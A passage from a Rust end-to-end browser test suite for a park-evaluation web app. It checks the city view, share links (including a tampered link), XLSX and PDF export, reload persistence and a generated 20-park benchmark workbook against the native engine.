        let wide = native(&paths, BenchmarkScope::City);
        assert_ne!(native_ranking(&wide), native_ranking(&expected));
        assert_eq!(screen_ranking(&browser).await, native_ranking(&wide));
        assert_eq!(
            browser.text("#city-benchmark-values").await,
            wide.ranking.benchmarks.clone().unwrap_or_default()
        );
        browser
            .wait_for("#city-filter")
            .await
            .select_by_value("all")
            .await
            .expect("filter");
        browser.wait_for_text("#city-shown", "3 / 3").await;
        let order = wide.select(
            parkcheck::city::SortKey::Status,
            &parkcheck::city::Filter::All,
        );
        assert_eq!(screen_rows(&browser).await, native_rows(&wide, &order));
        screenshot_at(&browser, "#city-ranking-title", "city-wide-1280-ranking").await;

        // Removing a file re-evaluates without it; the single park's screens are one click away.
        browser
            .click("#city-files li:first-child .remove-file")
            .await;
        browser.wait_for_text("#city-shown", "2 / 2").await;
        browser.click("#mode-park").await;
        browser.wait_for("#try-sample").await;
        browser.click("#mode-city").await;
        browser.wait_for_text("#city-shown", "2 / 2").await;
        browser.close().await;
    }

    /// One workbook with a park column holds the same three parks: the same goal line and rows.
    #[tokio::test]
    async fn one_workbook_with_a_park_column_gives_the_same_goal() {
        let browser = Browser::open_app("/").await;
        browser.click("#mode-city").await;
        let path = city_fixture("city-workbook.xlsx");
        choose_files(&browser, std::slice::from_ref(&path)).await;

        let three: Vec<PathBuf> = THREE.iter().map(|n| city_fixture(n)).collect();
        let separate = native(&three, BenchmarkScope::Park);
        let expected = native(&[path], BenchmarkScope::Park);
        assert_eq!(expected.goal, separate.goal);
        browser.wait_for_text("#city-goal", &expected.goal).await;
        assert_eq!(browser.text("#city-goal").await, separate.goal);
        assert!(browser.text("#city-files").await.contains("3 个园区"));
        let all: Vec<usize> = (0..expected.rows.len()).collect();
        assert_eq!(screen_rows(&browser).await, native_rows(&separate, &all));

        // A fourth park added later, from a CSV without park facts: it joins the city, and the
        // diagnostics say which park lacks its facts.
        let csv = city_fixture("park-d-yingjing.csv");
        choose_files(&browser, std::slice::from_ref(&csv)).await;
        browser.wait_for_text("#city-shown", "4 / 4").await;
        let four = native(
            &[city_fixture("city-workbook.xlsx"), csv],
            BenchmarkScope::Park,
        );
        assert_eq!(browser.text("#city-goal").await, four.goal);
        let all: Vec<usize> = (0..four.rows.len()).collect();
        assert_eq!(screen_rows(&browser).await, native_rows(&four, &all));
        let no_facts = browser
            .text("#city-diagnostics li[data-code='city.no_park_facts']")
            .await;
        assert!(no_facts.contains("park-d-yingjing"), "{no_facts}");
        screenshot_at(&browser, "#city-diagnostics", "city-diagnostics-1280").await;

        // The same screen in English.
        browser.click(".lang-toggle").await;
        browser.wait_for_text("#city-goal", "park meets").await;
        let english = native_in(
            &[
                city_fixture("city-workbook.xlsx"),
                city_fixture("park-d-yingjing.csv"),
            ],
            BenchmarkScope::Park,
            Lang::En,
        );
        assert_eq!(browser.text("#city-goal").await, english.goal);
        screenshot_at(&browser, "body", "city-en-1280").await;
        screenshot_at(&browser, "#city-dashboard-title", "city-en-1280-table").await;
        browser.close().await;
    }

    /// The native city of `paths` with `benchmarks`, as a city link's state (what the page's
    /// share panel makes for the same files).
    fn native_state(paths: &[PathBuf], benchmarks: BenchmarkScope) -> parkcheck::share::CityState {
        use parkcheck::share::{CityFileParks, CityState, SourceStamp};
        let files: Vec<CityFileParks> = paths
            .iter()
            .map(|path| {
                let (name, bytes, ingested) = read_city_file(path);
                CityFileParks {
                    file: SourceStamp {
                        name: name.clone(),
                        sha256: sha256_hex(&bytes),
                        sample: false,
                    },
                    parks: parks_from_file(&name, ingested).0,
                }
            })
            .collect();
        let options = CityOptions { benchmarks };
        let parks = files.iter().flat_map(|f| f.parks.clone()).collect();
        let evaluation = City::builtin().evaluate(parks, None, &[], options);
        CityState::new(files, None, Vec::new(), options, &evaluation)
    }

    fn sha256_hex(bytes: &[u8]) -> String {
        use sha2::{Digest, Sha256};
        Sha256::digest(bytes)
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect()
    }

    /// Opens a URL that shows the city view (a city link): waits for the city's goal line.
    async fn open_city_link(browser: &Browser, url: &str) {
        browser.client.goto(url).await.expect("navigate");
        browser.wait_for("#city-goal").await;
    }

    /// Keeps every download the page offers (instead of saving it) for [`last_download`].
    async fn capture_downloads(browser: &Browser) {
        browser
            .js(r#"window.__downloads = [];
                const create = URL.createObjectURL;
                URL.createObjectURL = b => { window.__downloads.push({ blob: b }); return create.call(URL, b); };
                HTMLAnchorElement.prototype.click = function () {
                  const d = window.__downloads[window.__downloads.length - 1];
                  if (d) d.name = this.download;
                };
                return 0"#)
            .await;
    }

    /// The name and bytes of the last download, waiting for it.
    async fn last_download(browser: &Browser) -> (String, Vec<u8>) {
        last_download_named(browser, "").await
    }

    /// The name and bytes of the last download whose name contains `name`, waiting for it.
    async fn last_download_named(browser: &Browser, name: &str) -> (String, Vec<u8>) {
        let value = browser
            .js_async(&format!(r#"const done = arguments[0];
                const poll = () => {{
                  const d = (window.__downloads || []).filter(d => d.name && d.name.includes('{name}')).pop();
                  if (!d) {{ setTimeout(poll, 50); return; }}
                  d.blob.arrayBuffer().then(b => done([d.name, Array.from(new Uint8Array(b))]));
                }};
                poll();"#))
            .await;
        let name = value[0].as_str().unwrap_or_default().to_string();
        let bytes = value[1]
            .as_array()
            .map(|a| {
                a.iter()
                    .filter_map(|b| b.as_u64())
                    .map(|b| b as u8)
                    .collect()
            })
            .unwrap_or_default();
        (name, bytes)
    }

    /// Every sheet of an XLSX file as text, cell by cell.
    fn sheets_text(bytes: &[u8]) -> Vec<(String, Vec<Vec<String>>)> {
        use calamine::Reader as _;
        let mut book: calamine::Xlsx<_> =
            calamine::Xlsx::new(std::io::Cursor::new(bytes.to_vec())).expect("an XLSX file");
        book.sheet_names()
            .into_iter()
            .map(|name| {
                let range = book.worksheet_range(&name).expect("sheet");
                let rows = range
                    .rows()
                    .map(|r| r.iter().map(|c| c.to_string()).collect())
                    .collect();
                (name, rows)
            })
            .collect()
    }

    /// A city link made in one browser profile (three files, city-wide benchmarks) opens in a
    /// fresh profile on the city view with the native engine's dashboard and ranking; the link
    /// equals the native one; a tampered city link explains itself and the page keeps working.
    #[tokio::test]
    async fn a_city_link_reopens_the_same_city_in_a_fresh_browser() {
        let site = super::Site::serve("/");
        let sender = Browser::start().await;
        sender.open(&site.base_url).await;
        sender.click("#mode-city").await;
        let paths: Vec<PathBuf> = THREE.iter().map(|n| city_fixture(n)).collect();
        choose_files(&sender, &paths).await;
        let expected = native(&paths, BenchmarkScope::City);
        sender.wait_for("#city-goal").await;
        sender.click("#city-benchmarks").await;
        sender.wait_for_text("#city-ranking", "基准值").await;
        sender.click("#share summary").await;
        sender.click("#make-city-link").await;
        let link = sender
            .js("return document.querySelector('#share-link').value")
            .await
            .as_str()
            .unwrap_or_default()
            .to_string();
        assert!(link.contains("#v1c"), "{link}");
        let fragment = link.split('#').nth(1).unwrap_or_default();
        let native_link =
            parkcheck::share::encode_city(&native_state(&paths, BenchmarkScope::City), None);
        assert_eq!(fragment, native_link, "the page's link is the native one");
        screenshot_at(&sender, "#share", "city-share-1280").await;
        sender
            .client
            .set_window_size(375, 800)
            .await
            .expect("resize");
        screenshot_at(&sender, "#share", "city-share-375").await;
        assert_eq!(wider_than_the_window(&sender).await, json!([]));
        sender.close().await;

        let receiver = Browser::start().await;
        open_city_link(&receiver, &link).await;
        receiver.wait_for_text("#city-goal", &expected.goal).await;
        assert!(
            receiver
                .text("#city-link-opened")
                .await
                .contains("全市链接")
        );
        let all: Vec<usize> = (0..expected.rows.len()).collect();
        assert_eq!(screen_rows(&receiver).await, native_rows(&expected, &all));
        assert_eq!(screen_ranking(&receiver).await, native_ranking(&expected));
        let checked = receiver
            .js("return document.querySelector('#city-benchmarks').checked")
            .await;
        assert_eq!(checked, json!(true));
        let files = receiver.text("#city-files").await;
        assert!(
            files.contains("park-a-yaan.xlsx") && files.contains("来自链接"),
            "{files}"
        );
        screenshot_at(&receiver, "body", "city-link-opened-1280").await;

        // One character changed in the middle of the data.
        receiver
            .client
            .goto(&super::tampered(&link, 60))
            .await
            .expect("navigate");
        let message = receiver.text("#link-error").await;
        assert!(message.contains("链接已损坏"), "{message}");
        receiver.click("#try-sample").await;
        receiver.wait_for_text(".results-title", "2023").await;
        receiver.close().await;
    }

    /// A `.parkcheck` city file chosen in the city input opens the city; a single park's
    /// full-data link pasted into the link box joins it as a park; a pasted result link is
    /// refused with what to send instead.
    #[tokio::test]
    async fn parkcheck_city_files_and_pasted_park_links_join_the_city() {
        let paths: Vec<PathBuf> = THREE.iter().map(|n| city_fixture(n)).collect();
        let state = native_state(&paths, BenchmarkScope::Park);
        let link = parkcheck::share::encode_city(&state, None);
        let dir = std::env::temp_dir().join(format!("parkcheck-e2e-city-{}", std::process::id()));
        std::fs::create_dir_all(&dir).expect("dir");
        let file = dir.join("全市.parkcheck");
        std::fs::write(&file, parkcheck::share::to_file(&link).expect("file")).expect("write");

        let browser = Browser::open_app("/").await;
        browser.click("#mode-city").await;
        choose_files(&browser, std::slice::from_ref(&file)).await;
        let expected = native(&paths, BenchmarkScope::Park);
        browser.wait_for_text("#city-goal", &expected.goal).await;
        let all: Vec<usize> = (0..expected.rows.len()).collect();
        assert_eq!(screen_rows(&browser).await, native_rows(&expected, &all));

        let sample = super::apply(&super::Session::default(), super::Action::SampleRequested);
        let full = parkcheck::share::FullState::from_session(&sample).expect("full");
        let result = parkcheck::share::ResultState::from_session(&sample).expect("result");
        let pasted = format!(
            "https://example.org/#{}\nhttps://example.org/#{}",
            parkcheck::share::encode_full(&full, None),
            parkcheck::share::encode_result(&result)
        );
        browser.click("#city-links summary").await;
        browser
            .wait_for("#city-link-input")
            .await
            .send_keys(&pasted)
            .await
            .expect("type");
        browser.click("#city-add-links").await;
        browser.wait_for_text("#city-shown", "4 / 4").await;
        let refused = browser.text("#city-link-error").await;
        assert!(
            refused.contains("结果链接") && refused.contains("完整数据链接"),
            "{refused}"
        );
        let rows = screen_rows(&browser).await;
        assert_eq!(rows[3]["park"], json!("雅安经济技术开发区"));
        screenshot_at(&browser, "body", "city-links-1280").await;
        browser
            .client
            .set_window_size(375, 800)
            .await
            .expect("resize");
        screenshot_at(&browser, "#city-links", "city-links-375").await;
        assert_eq!(wider_than_the_window(&browser).await, json!([]));

        // A city link pasted into the address bar of the open page (only the fragment changes)
        // replaces the city, from the single park's screen too; in English as well.
        browser.click("#mode-park").await;
        browser.click(".lang-toggle").await;
        browser
            .js(&format!("window.location.hash = '{link}'; return 0"))
            .await;
        browser.wait_for_text("#city-shown", "3 / 3").await;
        browser
            .wait_for_text("#city-link-opened", "city link")
            .await;
        assert_eq!(
            browser.text("#city-goal").await,
            native_in(&paths, BenchmarkScope::Park, Lang::En).goal
        );
        screenshot_at(&browser, "body", "city-link-en-375").await;
        assert_eq!(wider_than_the_window(&browser).await, json!([]));
        browser.close().await;
        let _ = std::fs::remove_dir_all(&dir);
    }

    /// The city's XLSX export is made by the reader worker and reads back natively (a summary
    /// sheet and one per park, equal to the native export); the printed report names the packs
    /// with their hashes, every file with its SHA-256 and the date, and each park's criteria.
    #[tokio::test]
    async fn the_city_exports_xlsx_and_prints_a_report() {
        use calamine::Reader as _;
        let browser = Browser::open_app("/").await;
        // The single park's export first: the XLSX writer runs in the reader worker for both
        // (it once died there, reading the clock the wasm32 way it cannot).
        browser.click("#try-sample").await;
        browser.wait_for_text(".results-title", "2023").await;
        capture_downloads(&browser).await;
        browser.click("#share summary").await;
        browser.click("#export-xlsx").await;
        let (name, bytes) = last_download(&browser).await;
        assert_eq!(name, "园区自评结果.xlsx");
        assert!(bytes.starts_with(b"PK"), "an XLSX (zip) file");

        browser.click("#mode-city").await;
        let paths: Vec<PathBuf> = THREE.iter().map(|n| city_fixture(n)).collect();
        choose_files(&browser, &paths).await;
        let expected = native(&paths, BenchmarkScope::Park);
        browser.wait_for_text("#city-goal", &expected.goal).await;
        browser.click("#share summary").await;
        browser.click("#export-xlsx").await;
        let (name, bytes) = last_download_named(&browser, "全市园区评价.xlsx").await;
        assert_eq!(name, "全市园区评价.xlsx");
        let state = native_state(&paths, BenchmarkScope::Park);
        let city = City::builtin().evaluate(state.inputs(), None, &[], CityOptions::default());
        let book: calamine::Xlsx<_> =
            calamine::Xlsx::new(std::io::Cursor::new(bytes.clone())).expect("an XLSX file");
        assert_eq!(
            book.sheet_names(),
            [
                "全市汇总",
                "雅安经济开发区",
                "名山经济开发区",
                "汉源工业园区"
            ]
        );
        // The same cells as the native export (the files differ only in their timestamps).
        let native_xlsx = parkcheck::export::city_to_xlsx(&city, Lang::Zh);
        assert_eq!(sheets_text(&bytes), sheets_text(&native_xlsx));

        let header = browser
            .js("return document.querySelector('#city-print-header').textContent")
            .await;
        let header = header.as_str().unwrap_or_default().to_string();
        for path in &paths {
            let sha = sha256_hex(&std::fs::read(path).expect("fixture"));
            assert!(header.contains(&sha), "{header}");
        }
        assert!(header.contains("sichuan-5plus1-park") && header.contains("sichuan-mujun"));
        let parks = browser
            .js("return document.querySelector('#city-print-parks').textContent")
            .await;
        let parks = parks.as_str().unwrap_or_default().to_string();
        assert!(
            parks.contains("汉源工业园区") && parks.contains("C1 主导产业营业收入占比"),
            "{parks}"
        );
        assert!(
            parks.contains("60.00%") && parks.contains("> 70%"),
            "{parks}"
        );
        let pdf = browser
            .client
            .print(fantoccini::wd::PrintConfiguration::default())
            .await
            .expect("print to PDF");
        assert!(pdf.starts_with(b"%PDF"), "a PDF");
        let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("target/screenshots");
        std::fs::create_dir_all(&dir).expect("dir");
        std::fs::write(dir.join("city-report.pdf"), &pdf).expect("write pdf");
        // The print stylesheet, seen on screen: the report parts shown, the controls hidden.
        browser
            .js(r#"for (const sheet of document.styleSheets) {
                  for (const rule of [...sheet.cssRules]) {
                    if (rule.media && rule.media.mediaText === 'print') rule.media.mediaText = 'screen';
                  }
                }
                return 0"#)
            .await;
        let hidden = browser
            .js("return getComputedStyle(document.querySelector('.city-share-bar')).display")
            .await;
        assert_eq!(hidden, json!("none"));
        screenshot_at(&browser, "#city-print-header", "city-print-1280").await;
        screenshot_at(&browser, "#city-print-parks", "city-print-parks-1280").await;
        browser.close().await;
    }

    /// The city's files and choices survive a reload (kept as the city's link in the browser's
    /// storage) until every file is removed.
    #[tokio::test]
    async fn the_city_survives_a_reload_until_cleared() {
        let browser = Browser::open_app("/").await;
        browser.click("#mode-city").await;
        let paths: Vec<PathBuf> = THREE.iter().map(|n| city_fixture(n)).collect();
        choose_files(&browser, &paths).await;
        browser.wait_for("#city-goal").await;
        browser.click("#city-benchmarks").await;
        browser.wait_for_text("#city-ranking", "基准值").await;

        browser.client.refresh().await.expect("reload");
        browser.wait_for("#try-sample").await;
        browser.click("#mode-city").await;
        let expected = native(&paths, BenchmarkScope::City);
        browser.wait_for_text("#city-goal", &expected.goal).await;
        let all: Vec<usize> = (0..expected.rows.len()).collect();
        assert_eq!(screen_rows(&browser).await, native_rows(&expected, &all));
        assert_eq!(screen_ranking(&browser).await, native_ranking(&expected));
        let files = browser.text("#city-files").await;
        assert!(files.contains("park-c-hanyuan.xlsx"), "{files}");

        browser.click("#city-clear").await;
        browser.client.refresh().await.expect("reload");
        browser.wait_for("#try-sample").await;
        browser.click("#mode-city").await;
        browser.wait_for("#city-input").await;
        let shown = browser
            .js("return document.querySelector('#city-files, #city-goal') === null")
            .await;
        assert_eq!(shown, json!(true), "nothing comes back after clearing");
        browser.close().await;
    }

    /// The browser figure of the city benchmark (README, Figures): a generated workbook of 20
    /// parks × 500 enterprises × 3 years with a park column and a park table, read by the reader
    /// worker; the page's User Timing measures say how long `City::evaluate` (and the view
    /// model) took in the release build, per-park and city-wide. Printed, never asserted on.
    /// Run: `PARKCHECK_DIST=$PWD/dist cargo test --features e2e --test e2e city_benchmark -- --nocapture`.
    #[tokio::test]
    async fn city_benchmark_in_the_browser() {
        let dir = std::env::temp_dir().join(format!("parkcheck-city-bench-{}", std::process::id()));
        std::fs::create_dir_all(&dir).expect("temp dir");
        let path = dir.join("city-20x500x3.xlsx");
        std::fs::write(&path, bench_workbook()).expect("write workbook");

        let browser = Browser::open_app("/").await;
        browser.click("#mode-city").await;
        choose_files(&browser, std::slice::from_ref(&path)).await;
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(120);
        loop {
            let shown = browser
                .js("return document.querySelector('#city-shown')?.textContent ?? ''")
                .await;
            if shown.as_str().is_some_and(|s| s.ends_with("20 / 20")) {
                break;
            }
            assert!(
                std::time::Instant::now() < deadline,
                "the city never showed 20 parks: {shown}"
            );
            tokio::time::sleep(std::time::Duration::from_millis(200)).await;
        }
        // The first evaluation runs on freshly compiled code; the checkbox then switches the
        // benchmarks back and forth, and each switch evaluates the whole city again.
        let first = measures(&browser).await;
        let mut per_park = Vec::new();
        let mut city_wide = Vec::new();
        for _ in 0..5 {
            browser.click("#city-benchmarks").await;
            browser
                .wait_for_text("#city-ranking-summary", "全市统一基准")
                .await;
            city_wide.push(measures(&browser).await);
            browser.click("#city-benchmarks").await;
            browser
                .wait_for_text("#city-ranking-summary", "各园区分别计算基准")
                .await;
            per_park.push(measures(&browser).await);
        }
        let median = |runs: &[(f64, f64)], pick: fn(&(f64, f64)) -> f64| {
            let mut v: Vec<f64> = runs.iter().map(pick).collect();
            v.sort_by(f64::total_cmp);
            v[v.len() / 2]
        };
        println!(
            "city of 20 parks × 500 enterprises × 3 years in headless Chromium (release build), \
             median of 5 (first run): per-park benchmarks: City::evaluate {:.0} ms ({:.0}), \
             view model {:.0} ms ({:.0}); city-wide benchmarks: City::evaluate {:.0} ms, \
             view model {:.0} ms (target ≤ 1000 ms)",
            median(&per_park, |m| m.0),
            first.0,
            median(&per_park, |m| m.1),
            first.1,
            median(&city_wide, |m| m.0),
            median(&city_wide, |m| m.1),
        );
        screenshot_at(&browser, "#city-dashboard-title", "city-bench-1280").await;
        browser.close().await;
        let _ = std::fs::remove_dir_all(&dir);
    }

    /// The last `parkcheck:city-evaluate` and `parkcheck:city-view` durations (ms).
    async fn measures(browser: &Browser) -> (f64, f64) {
        let last = |name: &str| {
            format!(
                "return performance.getEntriesByName('{name}').map(e => e.duration).pop() ?? -1"
            )
        };
        let evaluate = browser.js(&last("parkcheck:city-evaluate")).await;
        let view = browser.js(&last("parkcheck:city-view")).await;
        (
            evaluate.as_f64().unwrap_or(-1.0),
            view.as_f64().unwrap_or(-1.0),
        )
    }

    /// 20 parks × 500 enterprises × 3 years in one workbook: 企业数据 with a 所属园区 column and
    /// 园区信息 with one row per park (the same shape as `benches/city.rs`'s generated parks).
    fn bench_workbook() -> Vec<u8> {
        use rust_xlsxwriter::Workbook;

        struct Rng(u64);
        impl Rng {
            fn next(&mut self) -> f64 {
                self.0 ^= self.0 << 13;
                self.0 ^= self.0 >> 7;
                self.0 ^= self.0 << 17;
                (self.0 >> 11) as f64 / (1u64 << 53) as f64
            }
        }
        let yes = |b: bool| if b { "是" } else { "否" };
        let mut rng = Rng(0x9E37_79B9_7F4A_7C15);
        let mut workbook = Workbook::new();
        let sheet = workbook.add_worksheet();
        sheet.set_name("企业数据").expect("sheet name");
        let header = [
            "所属园区",
            "企业名称",
            "统一社会信用代码",
            "年度",
            "是否主导产业",
            "是否高新技术企业",
            "是否规上",
            "用地面积（亩）",
            "营业收入（万元）",
            "实缴税金（万元）",
            "年平均职工人数（人）",
            "综合能耗（吨标准煤）",
            "研发经费支出（万元）",
        ];
        for (c, h) in header.iter().enumerate() {
            sheet.write_string(0, c as u16, *h).expect("header");
        }
        let mut row = 1u32;
        for (k, year) in [2021, 2022, 2023].into_iter().enumerate() {
            let growth = 1.0 + 0.05 * k as f64;
            for p in 0..20 {
                for i in 0..500 {
                    let land = 5.0 + rng.next() * 200.0;
                    let revenue = land * (20.0 + rng.next() * 600.0) * growth;
                    let texts = [
                        format!("园区{p:02}"),
                        format!("园区{p:02}企业{i:04}"),
                        format!("9151{p:02}00{i:010}"),
                    ];
                    for (c, t) in texts.iter().enumerate() {
                        sheet.write_string(row, c as u16, t).expect("cell");
                    }
                    sheet.write_number(row, 3, f64::from(year)).expect("cell");
                    let flags = [rng.next() < 0.7, rng.next() < 0.3, rng.next() < 0.95];
                    for (c, f) in flags.into_iter().enumerate() {
                        sheet.write_string(row, 4 + c as u16, yes(f)).expect("cell");
                    }
                    let numbers = [
                        land,
                        revenue,
                        revenue * rng.next() * 0.06,
                        10.0 + rng.next() * 500.0,
                        10.0 + rng.next() * 50_000.0,
                        revenue * rng.next() * 0.05,
                    ];
                    for (c, v) in numbers.into_iter().enumerate() {
                        sheet
                            .write_number(row, 7 + c as u16, (v * 100.0).round() / 100.0)
                            .expect("cell");
                    }
                    row += 1;
                }
            }
        }
        let park = workbook.add_worksheet();
        park.set_name("园区信息").expect("sheet name");
        let keys = [
            "园区名称",
            "重点发展领域",
            "创新平台",
            "新建标准化厂房面积（平方米）",
            "其中多层标准化厂房面积（平方米）",
            "管委会+运营公司或专业运营机构",
            "融资服务（园保贷/供应链金融）",
            "人力资源服务",
            "生活配套",
            "质量基础设施一站式服务",
            "标准厂房/孵化器/仓储物流平台",
            "产业链全景图",
            "产业生态发展路径图",
            "重点企业和配套企业名录表",
            "近三年无重大安全、环保、用地、质量事故",
            "未引进“两高”项目",
        ];
        for (c, k) in keys.iter().enumerate() {
            park.write_string(0, c as u16, *k).expect("header");
        }
        for p in 0..20u32 {
            let r = p + 1;
            park.write_string(r, 0, format!("园区{p:02}"))
                .expect("cell");
            park.write_string(r, 1, "甲；乙").expect("cell");
            park.write_string(r, 2, "四川省某工程技术研究中心（省级）")
                .expect("cell");
            park.write_number(r, 3, 100_000.0).expect("cell");
            park.write_number(r, 4, (20_000.0 + rng.next() * 30_000.0).round())
                .expect("cell");
            for c in 5..keys.len() as u16 {
                park.write_string(r, c, "是").expect("cell");
            }
        }
        workbook.save_to_buffer().expect("workbook")
    }
}
